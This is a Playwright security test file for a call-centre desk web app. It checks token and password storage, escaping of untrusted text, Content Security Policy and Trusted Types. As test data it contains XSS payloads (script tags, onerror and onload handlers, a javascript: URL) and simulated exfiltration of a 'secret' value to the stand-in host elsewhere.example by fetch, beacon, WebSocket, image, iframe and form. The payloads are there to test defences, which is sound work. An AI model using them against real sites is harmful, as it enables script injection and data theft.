import type { Page } from '@playwright/test';
import { LOCAL_PASSWORD } from '../../scripts/local-desk';
import { action, card, expect, expectState, log, test } from './floor';

/** Everything the browser keeps for a page beyond its memory, and what its address shows. */
const kept = (page: Page): Promise<string> =>
  page.evaluate(async () =>
    JSON.stringify({
      local: Object.entries(localStorage),
      session: Object.entries(sessionStorage),
      cookies: document.cookie,
      databases: await indexedDB.databases(),
      caches: await caches.keys(),
      address: location.href,
      history: history.state as unknown,
      windowName: window.name,
    }),
  );

const nothing = (address: string): string =>
  JSON.stringify({
    local: [],
    session: [],
    cookies: '',
    databases: [],
    caches: [],
    address,
    history: null,
    windowName: '',
  });

test('neither token nor password outlives the page or leaves its memory; a cookie does that no page can read', async ({
  page,
  context,
  floor,
}) => {
  await floor.signIn(page, 'charles', 'a-wrong-password');
  await expect(page.getByRole('alert')).toContainText('Wrong name or password');
  expect(await kept(page)).toBe(nothing(`${floor.desk.deskOrigin}/`));

  const answered = page.waitForResponse('**/token');
  await floor.inCall(page, 'charles');
  const { token } = (await (await answered).json()) as { token: string };
  const [[, at]] = (JSON.parse(await kept(page)) as { local: [[string, string]] }).local;
  expect(Number(at)).toBeGreaterThan(0);
  const noted = [['desk.signed-in', at]];
  expect(await kept(page)).toBe(nothing(`${floor.desk.deskOrigin}/`).replace('[]', JSON.stringify(noted)));
  expect(await context.cookies()).toEqual([
    expect.objectContaining({ name: '__Host-desk-worker', httpOnly: true, secure: true, sameSite: 'Strict' }),
  ]);
  const drawn = await page.content();
  expect(drawn).not.toContain(token);
  expect(drawn).not.toContain(LOCAL_PASSWORD);

  await action(page, 'End call').click();
  await action(page, 'Complete').click();
  await page.getByRole('button', { name: 'Sign out' }).click();
  await expect(page.getByLabel('Password')).toHaveValue('');
  await expect.poll(() => kept(page)).toBe(nothing(`${floor.desk.deskOrigin}/`));
  expect(await context.cookies()).toEqual([]);
});

test('what callers and others write is shown as they wrote it, and never run', async ({ page, floor }) => {
  const name = `<img src=x onerror="window.ran=true"><script>window.ran=true</script>`;
  const reason = `</p><svg onload="window.ran=true">&lt;b&gt;`;
  await floor.describe('charles', { skills: ['support', name], contact_uri: reason });
  await floor.onShift(page, 'charles');
  await floor.offer({ name, reason, [name]: reason, note: 'javascript:alert(1)' });
  await expectState(page, 'ringing');
  await expect(card(page).locator('.details-who')).toHaveText(name);
  await expect(card(page).locator('.details-wants')).toHaveText(reason);
  await expect(log(page)).toContainText(`Incoming: ${name}`);
  await expect(page.locator('.chips li').last()).toHaveText(name);
  await expect(page.locator('#desk :is(script, [onerror], [onload], img:not([src="/icon.svg"]))')).toHaveCount(0);
  expect(await page.evaluate(() => 'ran' in window)).toBe(false);
});

test('the page talks to its own server and TaskRouter, and the browser lets it talk to nobody else', async ({
  page,
  floor,
}) => {
  const asked = new Set<string>();
  page.on('request', (request) => asked.add(new URL(request.url()).origin));
  page.on('websocket', (socket) => asked.add(new URL(socket.url()).origin));
  await floor.inCall(page, 'charles');
  const { origin } = floor.emulator;
  expect(asked).toEqual(new Set([floor.desk.deskOrigin, origin, origin.replace('http', 'ws')]));

  const violations = await page.evaluateHandle(() => {
    const told: string[] = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
      told.push(`${effectiveDirective} ${blockedURI}`);
    });
    return told;
  });
  await page.evaluate(async () => {
    await fetch('https://elsewhere.example/collect', { method: 'POST', body: 'secret' }).catch(() => undefined);
    navigator.sendBeacon('https://elsewhere.example/beacon', 'secret');
    new WebSocket('wss://elsewhere.example/socket').close();
    const image = new Image();
    image.src = 'https://elsewhere.example/pixel';
    const style = document.createElement('style');
    style.textContent = 'body { background: url(https://elsewhere.example/style) }';
    const frame = document.createElement('iframe');
    frame.src = 'https://elsewhere.example/frame';
    const form = document.createElement('form');
    form.method = 'post';
    form.action = 'https://elsewhere.example/form';
    document.body.append(image, style, frame, form);
    form.submit();
  });
  await expect
    .poll(async () => (await violations.jsonValue()).toSorted())
    .toEqual([
      'connect-src https://elsewhere.example/beacon',
      'connect-src https://elsewhere.example/collect',
      'connect-src wss://elsewhere.example/socket',
      'form-action https://elsewhere.example/form',
      'frame-src https://elsewhere.example',
      'img-src https://elsewhere.example/pixel',
      'style-src-elem inline',
    ]);
});

test('no text can become a script: neither markup, nor a text that is evaluated', async ({ page, floor }) => {
  await page.goto(floor.desk.deskOrigin);
  const refused = await page.evaluate(() => {
    const tries: (() => unknown)[] = [
      () => (document.body.innerHTML = '<b>markup</b>'),
      () => document.body.insertAdjacentHTML('beforeend', '<b>markup</b>'),
      () => document.write('<b>markup</b>'),
      () => (document.createElement('script').text = 'window.ran = true'),
    ];
    return tries.map((attempt) => {
      try {
        attempt();
        return 'done';
      } catch (error) {
        return error instanceof TypeError ? 'refused' : String(error);
      }
    });
  });
  expect(refused).toEqual(['refused', 'refused', 'refused', 'refused']);
  await expect(page.getByRole('heading', { name: 'Sign in to your desk' })).toBeVisible();
});
